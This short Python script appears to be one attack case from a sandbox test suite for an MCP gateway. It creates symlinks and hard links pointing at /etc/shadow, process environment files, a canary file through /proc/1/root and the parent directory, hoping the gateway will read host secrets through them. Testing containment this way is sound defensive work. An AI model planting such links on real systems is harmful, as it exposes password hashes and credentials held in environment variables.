# Leaves links to secrets of the host among its files, so that the gateway reads them for it.
#
# promise: path.contained
# group: files
# expects: completed
# stopped-by: mounts, landlock, outputs-are-read-inside

import contextlib
import os

from attack import held, target

leads = [
    target["canary"],
    "/etc/shadow",
    "/proc/1/environ",
    "/proc/self/environ",
    "/proc/1/root" + target["canary"],
    "/dev/zero",
    "..",
]
for number, lead in enumerate(leads):
    os.symlink(lead, f"/home/mcp/link-{number}.txt")
    with contextlib.suppress(OSError):
        os.link(lead, f"/home/mcp/hard-{number}.txt")
held("links left")
